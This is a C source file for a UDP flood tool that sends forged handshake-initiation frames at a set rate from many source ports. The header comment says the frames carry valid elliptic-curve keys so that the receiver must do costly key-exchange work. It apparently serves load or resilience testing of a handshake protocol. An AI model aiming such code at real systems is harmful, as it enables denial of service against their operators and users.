// SPDX-License-Identifier: GPL-2.0
/*
 * flood ADDRESS PORT RATE SECONDS [PORTS]: sends so many first messages a second from
 * so many ports [64], and prints how many were sent, how many each second, and how many
 * the network did not take.
 *
 * Nobody made them: ephemeral keys are points of the curve, all else is noise. Whoever
 * looks closer has all of the elliptic work to do.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>

#include <secp256k1.h>

#define POINT		33
#define HEADER		8
#define LENGTH		114
#define MSG1		1
#define POOL		64	/* points */
#define BATCH		32	/* frames of one system call */
#define MOST_PORTS	1024
#define STEP_NS		2000000

static uint8_t points[POOL][POINT];
static uint8_t frames[BATCH][LENGTH];
static int sockets[MOST_PORTS];
static uint64_t noise;

static int fail(const char *what)
{
	fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
	return 2;
}

static int usage(void)
{
	fprintf(stderr, "Usage: flood ADDRESS PORT RATE SECONDS [PORTS]\n");
	return 1;
}

/* xorshift: no frame is like another, which is all that it is for. */
static uint64_t next_noise(void)
{
	noise ^= noise << 13;
	noise ^= noise >> 7;
	noise ^= noise << 17;
	return noise;
}

static bool make_point(const secp256k1_context *context, uint8_t *out)
{
	uint8_t secret[32];
	size_t length = POINT;
	secp256k1_pubkey key;

	do {
		if (getrandom(secret, sizeof(secret), 0) != sizeof(secret))
			return false;
	} while (!secp256k1_ec_pubkey_create(context, &key, secret));
	return secp256k1_ec_pubkey_serialize(context, out, &length, &key,
					     SECP256K1_EC_COMPRESSED);
}

static bool make_points(void)
{
	secp256k1_context *context = secp256k1_context_create(SECP256K1_CONTEXT_SIGN);
	bool made = getrandom(&noise, sizeof(noise), 0) == sizeof(noise);
	size_t i;

	noise |= 1;
	for (i = 0; i < POOL && made; i++)
		made = make_point(context, points[i]);
	secp256k1_context_destroy(context);
	return made;
}

static void make_frame(uint8_t *frame, uint64_t number)
{
	const uint16_t rest = LENGTH - 4;
	uint64_t word;
	size_t at;

	for (at = 0; at < LENGTH; at += sizeof(word)) {
		word = next_noise();
		memcpy(frame + at, &word, LENGTH - at < sizeof(word) ? LENGTH - at : sizeof(word));
	}
	frame[0] = MSG1;
	frame[1] = 0;
	frame[2] = rest & 255;
	frame[3] = rest >> 8;
	memcpy(frame + HEADER, points[number % POOL], POINT);
}

static int open_socket(const struct sockaddr_in *to)
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	return fd < 0 || connect(fd, (const void *)to, sizeof(*to)) ? -1 : fd;
}

/* As many as the network took. */
static unsigned int send_batch(int fd, uint64_t number, unsigned int count)
{
	struct mmsghdr messages[BATCH] = { 0 };
	struct iovec parts[BATCH];
	unsigned int i;
	int sent;

	for (i = 0; i < count; i++) {
		make_frame(frames[i], number + i);
		parts[i] = (struct iovec){ frames[i], LENGTH };
		messages[i].msg_hdr.msg_iov = &parts[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	sent = sendmmsg(fd, messages, count, 0);
	return sent < 0 ? 0 : (unsigned int)sent;
}

static uint64_t now_ns(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return (uint64_t)now.tv_sec * 1000000000 + (uint64_t)now.tv_nsec;
}

static void flood(unsigned long rate, unsigned long seconds, unsigned int ports)
{
	const struct timespec step = { .tv_nsec = STEP_NS };
	uint64_t began = now_ns(), end = began + seconds * 1000000000, now;
	uint64_t tried = 0, sent = 0, wanted;
	unsigned int batch, port = 0;

	while ((now = now_ns()) < end) {
		wanted = (now - began) / 1000 * rate / 1000000;
		if (tried >= wanted) {
			nanosleep(&step, NULL);
			continue;
		}
		batch = wanted - tried < BATCH ? wanted - tried : BATCH;
		sent += send_batch(sockets[port++ % ports], tried, batch);
		tried += batch;
	}
	printf("sent %llu rate %llu unsent %llu\n", (unsigned long long)sent,
	       (unsigned long long)(sent / seconds), (unsigned long long)(tried - sent));
}

static bool number_in(unsigned long *number, const char *text, unsigned long low,
		      unsigned long high)
{
	char *end;

	errno = 0;
	*number = strtoul(text, &end, 0);
	return !errno && *text && !*end && *number >= low && *number <= high;
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	unsigned long port, rate, seconds, ports = 64, i;

	if (argc < 5 || argc > 6 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 ||
	    !number_in(&port, argv[2], 1, 65535) || !number_in(&rate, argv[3], 1, 10000000) ||
	    !number_in(&seconds, argv[4], 1, 3600) ||
	    (argc > 5 && !number_in(&ports, argv[5], 1, MOST_PORTS)))
		return usage();
	to.sin_port = htons((uint16_t)port);
	if (!make_points())
		return fail("keys");
	for (i = 0; i < ports; i++) {
		sockets[i] = open_socket(&to);
		if (sockets[i] < 0)
			return fail("socket");
	}
	flood(rate, seconds, (unsigned int)ports);
	return 0;
}
